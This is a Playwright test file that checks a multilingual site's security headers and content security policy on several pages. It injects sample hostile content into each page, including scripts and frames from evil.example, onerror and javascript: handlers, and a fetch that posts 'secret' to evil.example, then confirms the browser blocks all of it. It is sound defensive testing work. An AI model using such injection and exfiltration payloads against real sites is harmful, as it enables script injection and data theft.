import { expect, test } from "@playwright/test";
import { open } from "../support/visitor.ts";

/** What a browser makes of our headers, on the prerendered pages: nothing of the page's own is stopped, and everything a stranger might put into it is. */
const KINDS = [
  { name: "the home page", path: "/de" },
  { name: "the posts", path: "/de/blog" },
  { name: "the tools", path: "/en/tools" },
  { name: "a legal page", path: "/pl/privacy" },
];

declare global {
  // marks a stranger's script would leave, and what the browser stopped
  var strangers: string[] | undefined;
  var stopped: string[] | undefined;
}

for (const { name, path } of KINDS) {
  test(`${name}: its headers, its own parts run, a stranger's do not`, async ({ page, baseURL }) => {
    await page.addInitScript(() => {
      globalThis.stopped = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => globalThis.stopped?.push(`${effectiveDirective} ${blockedURI}`));
    });
    const answer = await open(page, path);
    expect(answer?.status()).toBe(200);
    expect(answer?.headers()).toMatchObject({
      "x-content-type-options": "nosniff", "x-frame-options": "DENY", "cross-origin-opener-policy": "same-origin", "referrer-policy": expect.stringMatching(/^(strict-origin-when-cross-origin|no-referrer)$/),
      "strict-transport-security": expect.stringMatching(/max-age=\d{8}/), "permissions-policy": expect.stringContaining("geolocation=()"),
      "content-security-policy": expect.stringMatching(/default-src 'self'.*object-src 'none'.*base-uri 'none'.*frame-ancestors 'none'/),
    });
    expect(answer?.headers()["content-security-policy"]).not.toMatch(/script-src[^;]*(unsafe|\*|https?:)/);
    expect(await page.evaluate(() => globalThis.stopped), "nothing of our own is stopped").toEqual([]);

    await page.evaluate((origin) => {
      globalThis.strangers = [];
      const add = (tag: string, attributes: Record<string, string>, text = ""): void => { const element = document.createElement(tag); for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value); element.textContent = text; document.body.append(element); };
      add("script", {}, "globalThis.strangers.push('inline')");
      add("script", { src: "https://evil.example/x.js" });
      add("script", { src: "data:text/javascript,globalThis.strangers.push('data')" });
      add("img", { src: `${origin}/no-such-picture.png`, onerror: "globalThis.strangers.push('attribute')" });
      add("iframe", { src: "https://evil.example/" });
      add("object", { data: "https://evil.example/" });
      add("base", { href: "https://evil.example/" });
      add("a", { href: "javascript:globalThis.strangers.push('address')", id: "strange" }, "x");
      document.getElementById("strange")?.click();
      void fetch("https://evil.example/", { method: "POST", body: "secret" }).catch(() => undefined);
    }, baseURL ?? "");
    await expect.poll(() => page.evaluate(() => [...new Set(globalThis.stopped?.map((one) => one.split(" ")[0]))])).toEqual(expect.arrayContaining(["base-uri", "connect-src", "object-src", "script-src-attr", "script-src-elem"]));
    expect(await page.evaluate(() => globalThis.strangers)).toEqual([]);
    expect(await page.evaluate(() => document.baseURI)).toContain(baseURL ?? "nowhere");
  });
}
